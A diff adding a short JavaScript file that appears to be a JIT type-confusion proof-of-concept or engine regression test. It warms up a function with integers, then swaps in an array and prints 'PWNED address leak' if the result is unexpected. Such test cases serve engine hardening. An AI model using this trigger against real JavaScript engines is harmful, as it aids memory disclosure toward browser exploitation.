@@ -1,0 +1,15 @@
+
+function confuse(n, late, obj) {
+  var x = 1;
+  var acc = 0;
+  for (var i = 0; i < n; i++) {
+    acc = acc + x * 3;
+    if (late == 1) { if (i == n - 2) { x = obj; } }
+  }
+  return acc;
+}
+var secret = [7,7,7];
+var r = 0;
+for (var k = 0; k < 60; k++) { r = confuse(10, 0, 5); }
+r = confuse(10, 1, secret);
+if (r == r) { if (r != 30) { print("PWNED address leak: " + r); } }
